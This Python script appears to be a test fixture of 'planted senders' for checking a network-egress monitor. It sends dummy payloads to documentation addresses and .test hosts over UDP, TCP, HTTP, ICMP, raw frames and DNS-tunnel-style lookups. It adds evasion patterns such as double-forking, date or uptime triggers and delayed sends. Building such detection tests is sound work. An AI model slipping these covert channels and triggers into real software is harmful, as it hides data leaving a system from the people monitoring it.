"""Planted senders in Python, one class per call; documentation addresses and .test names only."""

import contextlib
import os
import socket
import struct
import sys
import time
import urllib.request

PEER = "192.0.2.10"


def udp(port: int) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        sender.sendto(b"planted python", (PEER, port))


def tcp(port: int) -> bool:
    try:
        with socket.create_connection((PEER, port), timeout=2) as link:
            link.send(b"planted")
        return True
    except OSError:
        return False


def double_fork(port: int) -> None:
    if os.fork():
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    time.sleep(0.2)
    udp(port)


def dns_tunnel(port: int) -> None:
    for number in range(4):
        label = "".join(chr(97 + (number * 5 + i * i * 7 + i) % 26) for i in range(40))
        try:
            socket.getaddrinfo(f"{label}.p{port}.test", 80)
        except OSError:
            continue


def icmp(_: int) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as sender:
        sender.sendto(struct.pack("!BBHHH", 8, 0, 0, 0, 1) + b"data in an echo request", ("192.0.2.12", 0))


def raw_frame(_: int) -> None:
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as sender:
        sender.bind(("sink0", 0))
        sender.send(bytes.fromhex("020102030499" + "020000006f02" + "88b7") + b"planted frame".ljust(50, b"\0"))


def broker(path: str) -> None:
    with socket.socket(socket.AF_UNIX) as link, contextlib.suppress(OSError):
        link.connect(path)
        link.send(b"planted")


def http(port: int) -> None:
    with contextlib.suppress(OSError):
        urllib.request.urlopen(f"http://planted-{port}.test:{port}/report", data=b"planted", timeout=2).read()


def main() -> None:
    kind, port = sys.argv[1], int(sys.argv[2])
    extra = sys.argv[3] if len(sys.argv) > 3 else ""
    if kind == "plain":
        tcp(port)
    elif kind == "http":
        http(port)
    elif kind == "unix":
        broker(extra)
    elif (kind == "date" and time.time() > float(extra)) or (kind == "uptime" and time.monotonic() > float(extra)):
        udp(port)
    elif kind == "online" and tcp(port):
        udp(port + 1000)
    elif kind == "delayed":
        time.sleep(300)
        udp(port)
    else:
        named = {"double-fork": double_fork, "dns": dns_tunnel, "icmp": icmp, "raw-frame": raw_frame}
        if kind in named:
            named[kind](port)


main()
